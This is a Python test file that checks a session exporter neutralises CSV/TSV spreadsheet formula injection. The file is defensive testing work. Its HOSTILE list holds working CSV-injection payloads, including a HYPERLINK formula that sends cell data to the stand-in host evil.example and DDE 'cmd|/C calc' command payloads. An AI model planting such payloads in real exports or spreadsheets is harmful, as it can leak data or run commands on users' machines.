"""CSV/TSV exports never carry a spreadsheet formula (OWASP CSV injection), whatever a reviewer typed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cuedetect.export import export_session
from cuedetect.store import SessionStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_export_neutralises_formula_cells(
    store: SessionStore, demo_dir: Path, tmp_path: Path, text: str
) -> None:
    sid = store.import_analysis(demo_dir).session_id
    key = store.current_events(sid)[0].key
    store.confirm(sid, key, text)  # the reviewer's name starts its cells
    store.comment(sid, text, "plain words", event_key=key)
    path = export_session(store, sid, "csv", tmp_path / "e.csv")
    cells = [c for row in csv.reader(path.open(encoding="utf-8", newline="")) for c in row]
    assert any(text.strip() in c for c in cells), "the text is kept, only made inert"
    assert not [c for c in cells if c.startswith(DANGEROUS) and not c.lstrip("+-").replace(".", "").isdigit()]


def test_boris_table_neutralises_formula_cells(store: SessionStore, demo_dir: Path, tmp_path: Path) -> None:
    sid = store.import_analysis(demo_dir).session_id
    store.update_session(sid, scenario=HOSTILE[0], trainee=HOSTILE[3])
    path = export_session(store, sid, "boris-table", tmp_path / "e.tsv")
    cells = [c for row in csv.reader(path.open(encoding="utf-8", newline=""), delimiter="\t") for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS) and not c.lstrip("+-").replace(".", "").isdigit()]


@given(st.text(max_size=30))
def test_safe_cells_never_start_a_formula_and_keep_the_text(text: str) -> None:
    from cuedetect.export.rows import spreadsheet_safe

    out = spreadsheet_safe(text)
    assert out.endswith(text)
    if out.startswith(DANGEROUS):
        float(out)  # only a plain number may start with + or -


@pytest.mark.parametrize("value", [-1.5, 3, None, "-1.5", "+2", "1e-3", "plain"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    from cuedetect.export.rows import spreadsheet_safe

    assert spreadsheet_safe(value) == value
